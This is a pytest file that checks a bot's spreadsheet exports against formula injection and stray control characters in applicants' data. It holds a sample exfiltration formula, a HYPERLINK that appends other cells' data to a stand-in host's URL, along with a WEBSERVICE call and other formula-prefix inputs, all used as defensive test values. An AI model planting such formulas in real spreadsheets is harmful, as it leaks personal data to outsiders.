"""Spreadsheets for staff are safe to open: no live formula from an applicant's text, and a
control character in one address never breaks the export for everyone."""

from __future__ import annotations

import io
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.services.export import applicants_xlsx
from bot.services.selection import public_list_xlsx
from bot.services.sheets import safe

ATTACK = '=HYPERLINK("http://x/?"&C2&H2,"klik")'


@pytest.mark.parametrize(("typed", "stored"), [
    (ATTACK, "'" + ATTACK), ("=WEBSERVICE(A1)", "'=WEBSERVICE(A1)"), ("+1+1", "'+1+1"),
    ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("Jl. Bintang\x01 No. 1", "Jl. Bintang No. 1"),
    ("Jl. Sudirman No. 5", "Jl. Sudirman No. 5"), (7, 7), (None, None),
])
def test_a_cell_from_people_is_text(typed: object, stored: object) -> None:
    assert safe(typed) == stored


def test_the_export_holds_a_formula_attack_and_a_control_character_as_text() -> None:
    row = {"application_id": 1, "full_name": "Siti Aminah", "nik": "5207014508950003",
           "phone": "+6281234567890", "address": ATTACK, "occupation": "Petani\x01 sawah",
           "status": "submitted", "submitted_at": "2023-11-10T02:00:00.000000+00:00"}
    data = applicants_xlsx([row], ZoneInfo("Asia/Makassar"), "uji")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for c in sheet[2] if c.value is not None]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    values = [c.value for c in cells]
    assert "'" + ATTACK in values and "Petani sawah" in values
    assert "+6281234567890" in values  # a validated phone number stays as it is


def test_the_public_list_holds_names_as_text() -> None:
    data = public_list_xlsx([{"application_id": 1, "full_name": "=1+1", "district": "-",
                              "accepted": True}], "uji")
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[3]] == [1, 1, "'=1+1", "'-"]
